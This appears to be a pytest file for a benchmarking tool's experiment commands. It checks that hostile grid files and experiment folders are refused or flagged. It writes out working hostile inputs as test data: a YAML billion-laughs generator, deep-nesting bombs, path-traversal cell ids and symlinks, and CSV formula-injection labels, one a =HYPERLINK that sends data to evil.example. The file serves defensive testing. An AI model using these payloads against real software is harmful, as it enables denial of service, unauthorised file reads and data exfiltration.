"""Hostile grid files and experiment folders (issue 15, cases 4 and 6), with
the attack's exact inputs: YAML alias bombs and self-references, 5,000-deep
nesting, an axes product of 10^9 cells, out-of-range and non-finite values,
cell ids that lead out of the experiment folder, an edited record.json and
a spreadsheet formula in a label. Each must end in one line naming the file
and the key (exit code 2), quickly, or be marked in every output."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from tcmbench.commands.experiment import experiment
from tcmbench.commands.experiment_report import report
from tcmbench.experiment import schema
from tcmbench.experiment.exports import csv_cell, render_csv
from tcmbench.experiment.grid import GridError, expand, load_grid, parse_sets, with_sets
from tcmbench.experiment.results import load_experiment
from tcmbench.experiment.shaping import EDITED_MARK

#: Seconds a refused input may take (the bombs hung for minutes before).
FAST_S = 5.0

BASE = "base: {plugin: dbnet, test_datasets: [icdar2015], train_fraction: 0}\n"


def _one_line_error(res: Result, started: float, *needles: str) -> str:
    """Exit code 2, a single ``Error:`` line, no traceback, fast."""
    elapsed = time.perf_counter() - started
    assert res.exit_code == 2, res.output
    assert not isinstance(res.exception, RecursionError | MemoryError | ValueError)
    lines = res.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), res.output
    assert "Traceback" not in res.output
    for needle in needles:
        assert needle in lines[0], lines[0]
    assert elapsed < FAST_S, f"took {elapsed:.1f} s"
    return lines[0]


def _dry_run(path: Path, *extra: str) -> tuple[Result, float]:
    started = time.perf_counter()
    res = CliRunner().invoke(experiment, ["run", str(path), "--dry-run", *extra])
    return res, started


def _laughs(anchor_key: str, indent: str = "") -> str:
    """A billion-laughs bomb: 9 levels of 9 aliases (9^9 = 387M strings
    once expanded) in 1 kB, the last level under ``anchor_key``."""
    lines = [f"{indent}{anchor_key}:", f'{indent}  l0: &l0 "lol"']
    for i in range(1, 10):
        refs = ", ".join([f"*l{i - 1}"] * 9)
        lines.append(f"{indent}  l{i}: &l{i} [{refs}]")
    return "\n".join(lines) + "\n"


# ------------------------------------------------------------------ grid files


@pytest.mark.parametrize(
    "where",
    ["paper_note", "variables", "train_options"],
)
def test_yaml_alias_bombs_are_refused_even_by_dry_run(tmp_path: Path, where: str) -> None:
    """Case 6: alias bombs in paper_note, a variable default and
    train_options hung even --dry-run."""
    if where == "paper_note":
        text = "name: g\n" + BASE + _laughs("paper_note")
    elif where == "variables":
        text = "name: g\n" + BASE + "variables:\n  x:\n" + _laughs("default", "    ")
    else:
        text = "name: g\nbase:\n  plugin: dbnet\n  test_datasets: [icdar2015]\n" + _laughs(
            "train_options", "  "
        )
    path = tmp_path / "bomb.yaml"
    path.write_text(text)
    assert path.stat().st_size < 2048
    res, started = _dry_run(path)
    _one_line_error(res, started, str(path), "YAML anchors (&l0) are not allowed")


def test_self_referencing_alias_and_deep_nesting(tmp_path: Path) -> None:
    """Case 6: a self-referencing alias and 5,000-deep nesting gave
    RecursionError tracebacks."""
    selfref = tmp_path / "selfref.yaml"
    selfref.write_text("name: g\nbase: &a {plugin: dbnet, train_options: *a}\n")
    res, started = _dry_run(selfref)
    _one_line_error(res, started, str(selfref), "anchors (&a) are not allowed")

    alias_only = tmp_path / "alias.yaml"  # an alias to an anchor that does not exist
    alias_only.write_text("name: g\nbase: *a\n")
    res, started = _dry_run(alias_only)
    _one_line_error(res, started, str(alias_only), "aliases (*a) are not allowed")

    deep = tmp_path / "deep.yaml"
    deep.write_text("name: g\nbase: {train_options: " + "[" * 5000 + "]" * 5000 + "}\n")
    res, started = _dry_run(deep)
    _one_line_error(res, started, str(deep), "nests deeper than 64 levels")

    deep_map = tmp_path / "deep_map.yaml"
    deep_map.write_text("name: g\nbase: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n")
    res, started = _dry_run(deep_map)
    _one_line_error(res, started, str(deep_map), "nests deeper than 64 levels")


def test_deep_set_value_is_one_line(tmp_path: Path) -> None:
    """Case 6: `--set lab=[[[...]]]` gave a RecursionError."""
    path = tmp_path / "g.yaml"
    path.write_text(
        "name: g\nvariables: {lab: {default: x}}\n"
        "base: {plugin: dbnet, test_datasets: [icdar2015], train_fraction: 0, label: '${lab}'}\n"
    )
    res, started = _dry_run(path, "--set", "lab=" + "[" * 5000 + "]" * 5000)
    _one_line_error(res, started, "--set lab", "nests deeper than 64 levels")
    res, started = _dry_run(path, "--set", "lab=&a [*a]")
    _one_line_error(res, started, "--set lab", "anchors (&a) are not allowed")
    # Shallow but of the wrong type: refused where it is used, naming the cell and key.
    res, started = _dry_run(path, "--set", "lab=[[[1]]]")
    _one_line_error(res, started, str(path), "cell 000-g: label must be a string")
    # Text that is not YAML is still taken as text, as documented.
    res = CliRunner().invoke(experiment, ["run", str(path), "--dry-run", "--set", "lab=a: [b"])
    assert res.exit_code == 0, res.output
    assert "| 000-g | a: [b |" in res.output


def test_axes_product_of_a_billion_cells_is_refused_before_expanding(tmp_path: Path) -> None:
    """Case 6: an axes product of 10^9 cells hung --dry-run."""
    axes = "".join(
        f"  b{i}: [" + ", ".join(f"{{seed: {j}}}" for j in range(10)) + "]\n" for i in range(9)
    )
    path = tmp_path / "billion.yaml"
    path.write_text("name: g\n" + BASE + "axes:\n" + axes)
    res, started = _dry_run(path)
    _one_line_error(
        res, started, str(path), f"expands to more than {schema.MAX_CELLS} cells", "1 x 10 x 10"
    )
    # The same through the tiny form (its axes merge over the grid's).
    path.write_text(
        "name: g\n" + BASE + "axes: {seed: [0, 1]}\ntiny:\n  axes:\n" + axes.replace("  b", "    b")
    )
    res, started = _dry_run(path, "--tiny")
    _one_line_error(res, started, str(path), "the tiny form expands to more than")
    # At the limit it expands (the bound is not off by one).
    path.write_text(
        "name: g\n"
        + BASE
        + "axes:\n"
        + f"  seed: [{', '.join(str(i) for i in range(100))}]\n"
        + f"  steps: [{', '.join(str(i + 1) for i in range(100))}]\n"
    )
    assert len(expand(load_grid(path), strict=False)) == schema.MAX_CELLS == 10_000


VALUE_CASES = [
    ("seed: 100000000000000000000000", "base.seed", ">= 0 and <= 4294967295"),
    ("seed: -1", "base.seed", ">= 0 and <= 4294967295"),
    ("lr: .nan", "base.lr", "> 0 and <= 10"),
    ("epochs: .inf", "base.epochs", "> 0 and <= 100000"),
    ("tcm: {tau: x}", "base.tcm.tau", "> 0 and <= 100, got 'x'"),
    ("train_options: {save_every: abc}", "base.train_options.save_every", "<= 10000000"),
    ("steps: 1e20", "base.steps", ">= 1 and <= 10000000"),
    ("steps: 1.0e+20", "base.steps", ">= 1 and <= 10000000"),
    ("steps: 100000000000000000000", "base.steps", ">= 1 and <= 10000000"),
    ("batch_size: 1000000000", "base.batch_size", ">= 1 and <= 1024"),
    ("eval_limit: 0", "base.eval_limit", ">= 1"),
    ("train_fraction: .nan", "base.train_fraction", ">= 0 and <= 1"),
]


@pytest.mark.parametrize(("value", "key", "allowed"), VALUE_CASES)
def test_out_of_range_values_name_file_key_and_range(
    tmp_path: Path, value: str, key: str, allowed: str
) -> None:
    """Case 6: seed 10^23 / -1, lr NaN, epochs inf, tcm.tau "x",
    save_every "abc" gave tracebacks; steps 1e20 ran for ever; batch_size
    10^9 allocated until it failed (case 3)."""
    path = tmp_path / "g.yaml"
    path.write_text(
        "name: g\nbase: {plugin: dbnet, test_datasets: [icdar2015], train_fraction: 0, "
        + value
        + "}\n"
    )
    res, started = _dry_run(path)
    _one_line_error(res, started, f"{path}: {key} must be", allowed)


def test_values_from_set_get_the_same_checks(tmp_path: Path) -> None:
    path = tmp_path / "g.yaml"
    path.write_text(
        "name: g\nvariables: {n: {help: steps}, s: {}}\n"
        "base: {plugin: dbnet, test_datasets: [icdar2015], train_datasets: [icdar2015], "
        "steps: '${n}', seed: '${s}'}\n"
    )
    grid = load_grid(path)
    for sets, key in ((["n=1e20", "s=0"], "steps"), (["n=5", "s=-1"], "seed")):
        with pytest.raises(GridError, match=rf"cell 000-g: {key} must be an integer") as info:
            expand(with_sets(grid, parse_sets(sets, grid)))
        assert "\n" not in str(info.value)
    cells = expand(with_sets(grid, parse_sets(["n=5.0", "s=7"], grid)))
    assert cells[0].params["steps"] == 5 and isinstance(cells[0].params["steps"], int)


def test_grid_schema_covers_the_trainer_and_tcm_settings() -> None:
    """The grid schema lists every TrainConfig / TCMConfig field, so a field
    added to them cannot be refused (or accepted unchecked) by grids."""
    from tcmbench.contract.spec import TCMConfig
    from tcmbench.train.hyper import TrainConfig

    assert set(schema.TCM.fields) == set(TCMConfig.__dataclass_fields__)
    options = set(schema.TRAIN_OPTIONS.fields)
    assert not options & set(schema.RUNNER_OWNED)
    assert options | set(schema.RUNNER_OWNED) == set(TrainConfig.__dataclass_fields__)


# ------------------------------------------------------------------ experiment folders


def _result(h: float) -> dict[str, Any]:
    return {
        "dataset": "icdar2015",
        "split": "test",
        "protocol": "icdar2015",
        "precision": h,
        "recall": h,
        "hmean": h,
        "images": 500,
    }


def _record(cell: str, label: str, h: float, *, checksum: bool = True) -> dict[str, Any]:
    rec = {
        "schema": 1,
        "grid": "g",
        "cell": cell,
        "label": label,
        "tiny": False,
        "params": {"plugin": "dbnet", "label": label, "test_datasets": ["icdar2015"]},
        "status": "done",
        "init": None,
        "train": {"steps": 10, "train_images": 5},
        "results": [_result(h)],
        "seconds": 1.0,
        "versions": {"tcmbench": "0.1.0"},
        "device": "cpu",
    }
    # the runner's own function writes records (schema 2, with checksum)
    return schema.with_checksum(rec) if checksum else rec


def _experiment(
    root: Path, cells: list[Any], records: dict[str, dict[str, Any]], kind: str = "bars"
) -> Path:
    (root / "cells").mkdir(parents=True)
    meta = {
        "schema": 1,
        "grid": "g",
        "title": "hostile",
        "tiny": False,
        "report": {"kind": kind, "x": "steps"} if kind == "curve" else {"kind": kind},
        "cells": cells,
    }
    (root / "experiment.json").write_text(json.dumps(meta))
    for cell, rec in records.items():
        (root / "cells" / cell).mkdir()
        (root / "cells" / cell / "record.json").write_text(json.dumps(rec))
    return root


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("kind", ["relative", "absolute", "nested", "dot-dot"])
def test_report_never_follows_cell_ids_out_of_the_folder(tmp_path: Path, kind: str) -> None:
    """Case 6: `experiment report` followed cell ids that are absolute or
    use ../, reading records outside the experiment folder. A canary
    experiment beside the target holds a record with a figure that must
    never reach the report."""
    canary = tmp_path / "canary"
    (canary / "victim").mkdir(parents=True)
    (canary / "victim" / "record.json").write_text(json.dumps(_record("victim", "stolen", 0.999)))
    before = _snapshot(canary)
    target = tmp_path / "exp"
    ids = {
        "relative": "../../canary/victim",
        "absolute": str(canary / "victim"),
        "nested": "sub/../../../canary/victim",
        "dot-dot": "..",
    }
    good = "000-good"
    _experiment(target, [good, ids[kind]], {good: _record(good, "good", 0.5)})
    started = time.perf_counter()
    res = CliRunner().invoke(report, [str(target)])
    line = _one_line_error(res, started, str(target / "experiment.json"), "cells[1] must be a name")
    assert "99.9" not in res.output and "stolen" not in line
    assert not (target / "report").exists()
    assert _snapshot(canary) == before


def test_report_refuses_a_link_that_leads_out(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "record.json").write_text(json.dumps(_record("001-link", "stolen", 0.999)))
    before = _snapshot(canary)
    target = _experiment(
        tmp_path / "exp", ["000-good"], {"000-good": _record("000-good", "g", 0.5)}
    )
    (target / "cells" / "001-link").symlink_to(canary, target_is_directory=True)
    for cells in (["000-good", "001-link"], ["000-good"]):  # listed, or found in cells/
        meta = json.loads((target / "experiment.json").read_text())
        (target / "experiment.json").write_text(json.dumps({**meta, "cells": cells}))
        started = time.perf_counter()
        res = CliRunner().invoke(report, [str(target)])
        line = _one_line_error(res, started, "001-link", "leads outside")
        assert "stolen" not in line and "99.9" not in res.output
    assert _snapshot(canary) == before and not (target / "report").exists()


def test_hostile_experiment_json_is_one_line(tmp_path: Path) -> None:
    target = tmp_path / "exp"
    target.mkdir()
    path = target / "experiment.json"
    cases = {
        '{"schema": 1, "grid": "g", "cells": ' + "[" * 100_000 + "]" * 100_000 + "}": "deeper",
        '{"schema": 1, "grid": "g", "cells": [], "tiny": NaN}': "not valid JSON",
        '{"schema": 1, "grid": "g", "cells": [3]}': "cells[0] must be",
        '{"schema": 1, "grid": "../g", "cells": []}': "grid must be",
        '{"schema": 1, "grid": "g", "cells": [], "report": {"kind": "pie"}}': "report.kind",
        '{"schema": 1, "grid": "g", "cells": [], "extra": 1}': "extra is not a known key",
    }
    for text, needle in cases.items():
        path.write_text(text)
        started = time.perf_counter()
        _one_line_error(CliRunner().invoke(report, [str(target)]), started, str(path), needle)
    path.unlink()
    os.mkfifo(path)  # would block the read for ever
    started = time.perf_counter()
    _one_line_error(CliRunner().invoke(report, [str(target)]), started, "not a regular file")


def _report(target: Path) -> tuple[str, list[dict[str, str]], dict[str, Any]]:
    res = CliRunner().invoke(report, [str(target)])
    assert res.exit_code == 0, res.output
    folder = target / "report"
    with (folder / "results.csv").open() as f:
        rows = list(csv.DictReader(f))
    return (
        (folder / "results.md").read_text(),
        rows,
        json.loads((folder / "results.json").read_text()),
    )


def test_edited_record_is_marked_in_every_output(tmp_path: Path) -> None:
    """Case 4: an edited record.json was reported as if it were real."""
    ids = ["000-a", "001-b", "002-c", "003-d"]
    records = {
        "000-a": _record("000-a", "honest", 0.41),
        "001-b": _record("001-b", "forged", 0.42),
        "002-c": _record("002-c", "stripped", 0.43),
        "003-d": _record("003-d", "old", 0.44, checksum=False),  # schema 1: before checksums
    }
    target = _experiment(tmp_path / "exp", ids, records)
    md, rows, data = _report(target)
    assert "[EDITED]" not in md and all(r["integrity"] != "edited" for r in rows)
    assert "Records: 1 unverified (written before records carried a checksum); 3 verified" in md
    clean_red = _red_pixels(target / "report" / "bars.png")

    # The attack: a better figure written into a finished record.
    forged = target / "cells" / "001-b" / "record.json"
    rec = json.loads(forged.read_text())
    rec["results"][0]["hmean"] = 0.99
    forged.write_text(json.dumps(rec, indent=2))
    stripped = target / "cells" / "002-c" / "record.json"  # schema 2, checksum removed
    rec = json.loads(stripped.read_text())
    del rec["checksum"]
    stripped.write_text(json.dumps(rec))

    md, rows, data = _report(target)
    by_cell = {r["cell"]: r for r in rows}
    assert {c: r["integrity"] for c, r in by_cell.items()} == {
        "000-a": "verified",
        "001-b": "edited",
        "002-c": "edited",
        "003-d": "unverified",
    }
    assert data["edited"] == ["001-b", "002-c"] and data["unverified"] == ["003-d"]
    table = {line.split(" | ")[0][2:]: line for line in md.splitlines() if line.startswith("| ")}
    assert f"forged [{EDITED_MARK}]" in table and f"stripped [{EDITED_MARK}]" in table
    assert "honest" in table and "old" in table  # unmarked rows
    assert "2 EDITED (changed after the run" in md and "001-b, 002-c" in md
    assert "its figures are not the run's" in md
    # the bars plot: the edited bars are hatched in red
    assert _red_pixels(target / "report" / "bars.png") > clean_red + 100


def _red_pixels(png: Path) -> int:
    """Pixels of the colour edited records are marked with in the plots."""
    import numpy as np
    from PIL import Image

    from tcmbench.experiment import plots

    rgb = tuple(int(plots.EDITED_COLOUR[i : i + 2], 16) for i in (1, 3, 5))
    with Image.open(png) as im:
        px = np.asarray(im.convert("RGB"))
    return int(np.all(px == np.array(rgb, dtype=px.dtype), axis=-1).sum())


def test_edited_record_on_a_curve(tmp_path: Path) -> None:
    ids = ["000-steps=1", "001-steps=2"]
    records = {c: _record(c, "DBNet", 0.3 + 0.1 * i) for i, c in enumerate(ids)}
    for i, c in enumerate(ids):
        records[c]["params"]["steps"] = i + 1
        records[c] = schema.with_checksum(records[c])
    target = _experiment(tmp_path / "exp", ids, records, kind="curve")
    _report(target)
    clean = _red_pixels(target / "report" / "curve_icdar2015.png")
    path = target / "cells" / ids[1] / "record.json"
    rec = json.loads(path.read_text())
    rec["results"][0]["hmean"] = 0.95
    path.write_text(json.dumps(rec))
    md, _, _ = _report(target)
    assert f"95.0 [{EDITED_MARK}]" in md
    assert _red_pixels(target / "report" / "curve_icdar2015.png") > clean + 50


def test_records_written_by_the_runner_verify() -> None:
    """The runner's record (with_checksum) verifies; any change to a figure,
    the cell id or the params does not."""
    rec = _record("000-a", "a", 0.5)
    assert rec["schema"] == schema.RECORD_SCHEMA == 2
    assert schema.record_integrity(rec) == schema.VERIFIED
    assert schema.record_integrity(json.loads(json.dumps(rec))) == schema.VERIFIED
    for change in (
        lambda r: r["results"][0].update(hmean=0.51),
        lambda r: r.update(cell="001-a"),
        lambda r: r["params"].update(plugin="pan"),
        lambda r: r.update(checksum="sha256:" + "0" * 64),
    ):
        edited = json.loads(json.dumps(rec))
        change(edited)
        assert schema.record_integrity(edited) == schema.EDITED
    # NaN (a diverged loss) is written as null, so the record stays JSON
    nan = schema.with_checksum({**rec, "train": {"steps": 1, "losses": {"loss": float("nan")}}})
    assert nan["train"]["losses"]["loss"] is None
    assert schema.record_integrity(nan) == schema.VERIFIED


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    """Case 6: `report --format csv` wrote =HYPERLINK(...) from a label."""
    labels = {
        "000-a": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "001-b": "+1+1",
        "002-c": "-0.5",
        "003-d": "@SUM(A1:A9)",
        "004-e": "\tx",
        "005-f": "\r=1",
        "006-g": "plain label",
    }
    records = {c: _record(c, label, 0.5) for c, label in labels.items()}
    target = _experiment(tmp_path / "exp", list(labels), records)
    res = CliRunner().invoke(report, [str(target), "--format", "csv"])
    assert res.exit_code == 0, res.output
    text = (target / "report" / "results.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    got = {r["cell"]: r["label"] for r in rows}
    for cell, label in labels.items():
        if cell == "006-g":
            assert got[cell] == label
        else:
            assert got[cell] == "'" + label, (cell, got[cell])
    for row in rows:  # numbers stay numbers
        assert float(row["hmean"]) == 0.5 and int(row["images"]) == 500
    assert csv_cell(-0.5) == -0.5 and csv_cell(0) == 0 and csv_cell(None) == ""
    assert csv_cell("-0.5") == "'-0.5" and csv_cell("a=b") == "a=b"
    assert render_csv(load_experiment(target)) == text


def test_grid_references_that_are_not_files(tmp_path: Path) -> None:
    """A FIFO would block the read for ever; a folder, a name too long for
    the file system or an unknown user's ~ gave tracebacks."""
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    for ref, needle in (
        (str(fifo), "not a regular file"),
        (str(tmp_path), "not a regular file"),
        ("a" * 5000, "not a grid file"),
        ("~no-such-user-xyz/g.yaml", "not a grid file"),
        (str(tmp_path / "missing.yaml"), "grid file not found"),
    ):
        res, started = _dry_run(Path(ref))
        _one_line_error(res, started, needle)
